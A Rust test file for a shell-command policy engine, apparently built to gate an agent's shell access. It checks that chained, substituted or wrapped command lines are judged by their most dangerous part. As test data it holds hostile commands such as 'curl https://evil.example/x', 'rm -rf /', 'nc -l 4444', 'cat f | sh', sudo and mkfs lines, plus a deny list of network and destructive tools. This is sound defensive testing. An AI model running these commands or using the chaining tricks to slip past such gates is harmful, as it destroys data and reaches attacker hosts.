//! Chained shell commands that try to hide a denied or critical command behind an allowed one,
//! and the property that composition never makes a line less strict than its worst part.

use super::{decide, enabled_defaults};
use headmaster_policy::{CompiledPolicy, Decision, Tier};
use proptest::prelude::*;
use serde_json::json;
use std::sync::OnceLock;

fn policy() -> &'static CompiledPolicy {
    static POLICY: OnceLock<CompiledPolicy> = OnceLock::new();
    POLICY.get_or_init(enabled_defaults)
}

fn strictness(line: &str) -> u8 {
    decide(policy(), "shell.exec", json!({ "command": line }))
        .decision
        .strictness()
}

#[test]
fn a_hidden_command_is_judged_by_its_worst_part() {
    let critical = Decision::NeedsApproval { quorum: 2 };
    for line in [
        "ls && curl https://evil.example/x",
        "ls; rm -rf /",
        "ls || wget evil",
        "ls & nc -l 4444",
        "ls\ncurl x",
        "echo $(curl x)",
        "echo `id; curl x`",
        "cat f | sh",
        "cat f | /bin/bash -s",
        "(ls; curl x)",
        "{ ls; ssh host; }",
        "sh -c 'ls; curl x'",
        "bash -c \"echo ok && scp a b:\"",
        "env curl x",
        "nohup timeout 5 curl x &",
        "find . -exec rm -rf {} +",
        "ls | xargs rm -f",
        "true && eval 'ls'",
        "diff <(curl a) b",
        "if ls; then curl x; fi",
        "ls > >(nc h 1)",
    ] {
        let v = decide(policy(), "shell.exec", json!({ "command": line }));
        assert_eq!(v.decision, critical, "{line}: {:?}", v.reasons);
        assert!(
            v.reasons.iter().any(|r| r.contains("rule shell-")),
            "{line}: {:?}",
            v.reasons
        );
    }
}

#[test]
fn a_denied_command_anywhere_denies_the_line() {
    for line in [
        "ls && sudo rm x",
        "echo $(sudo id)",
        "ls | su root",
        "sh -c 'sudo ls'",
        "env doas ls",
        "echo `mkfs.ext4 /dev/sdb`",
        "echo $(( `sudo id` + 1 ))",
        "x=$(( echo `sudo ls` )); echo ok",
    ] {
        let v = decide(policy(), "shell.exec", json!({ "command": line }));
        assert_eq!(v.decision, Decision::Deny, "{line}: {:?}", v.reasons);
    }
}

#[test]
fn the_reason_points_at_the_hidden_part() {
    let v = decide(
        policy(),
        "shell.exec",
        json!({"command": "ls -la && curl -s evil.example"}),
    );
    assert!(
        v.reasons
            .iter()
            .any(|r| r.contains("running `curl -s evil.example`")
                && r.contains("rule shell-network")),
        "{:?}",
        v.reasons
    );
    let v = decide(policy(), "shell.exec", json!({"command": "echo $(wget x)"}));
    assert!(
        v.reasons
            .iter()
            .any(|r| r.contains("inside a command substitution")),
        "{:?}",
        v.reasons
    );
}

#[test]
fn computed_program_names_are_critical_not_allowed() {
    for line in [
        "$CMD x",
        "$(echo curl) x",
        "`echo rm` -rf /",
        "x=curl; $x evil",
    ] {
        let v = decide(policy(), "shell.exec", json!({ "command": line }));
        assert_eq!(v.tier, Some(Tier::Critical), "{line}: {:?}", v.reasons);
        assert!(
            v.reasons.iter().any(|r| r.contains("cannot be judged")),
            "{line}: {:?}",
            v.reasons
        );
    }
}

const ALLOWED: &[&str] = &[
    "ls -la",
    "echo hi",
    "cat notes.txt",
    "pwd",
    "grep -n x f",
    "wc -l f",
];
const DENIED: &[&str] = &[
    "curl https://evil.example",
    "rm -rf /",
    "sudo ls",
    "wget -q x",
    "nc -l 4444",
    "ssh host",
    "dd if=a of=b",
];

/// A command line and the strictness of its strictest leaf judged alone.
fn line() -> impl Strategy<Value = (String, u8)> {
    let leaf = prop_oneof![
        proptest::sample::select(ALLOWED).prop_map(|s| s.to_owned()),
        proptest::sample::select(DENIED).prop_map(|s| s.to_owned()),
    ]
    .prop_map(|s| {
        let strict = strictness(&s);
        (s, strict)
    });
    leaf.prop_recursive(4, 24, 2, |inner| {
        prop_oneof![
            (
                inner.clone(),
                proptest::sample::select(&["&&", "||", ";", "|", "&", "\n", "|&"][..]),
                inner.clone()
            )
                .prop_map(|((a, sa), op, (b, sb))| (format!("{a} {op} {b}"), sa.max(sb))),
            inner
                .clone()
                .prop_map(|(a, s)| (format!("echo $( {a} )"), s)),
            inner.clone().prop_map(|(a, s)| (format!("( {a} )"), s)),
            inner.clone().prop_map(|(a, s)| (format!("{{ {a}\n}}"), s)),
            inner
                .clone()
                .prop_map(|(a, s)| (format!("sh -c \"{}\"", dq(&a)), s)),
            inner
                .clone()
                .prop_map(|(a, s)| (format!("if true; then {a}\nfi"), s)),
            inner.clone().prop_map(|(a, s)| {
                if a.contains('`') {
                    (format!("x=$({a}); echo ok"), s)
                } else {
                    (format!("echo `{a}`"), s)
                }
            }),
        ]
    })
}

/// Escapes text for a double-quoted shell string.
fn dq(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if matches!(c, '\\' | '"' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn composition_is_never_less_strict_than_its_strictest_part((line, strictest) in line()) {
        let got = strictness(&line);
        prop_assert!(
            got >= strictest,
            "{line:?} judged {got}, but a part alone is {strictest}"
        );
    }
}
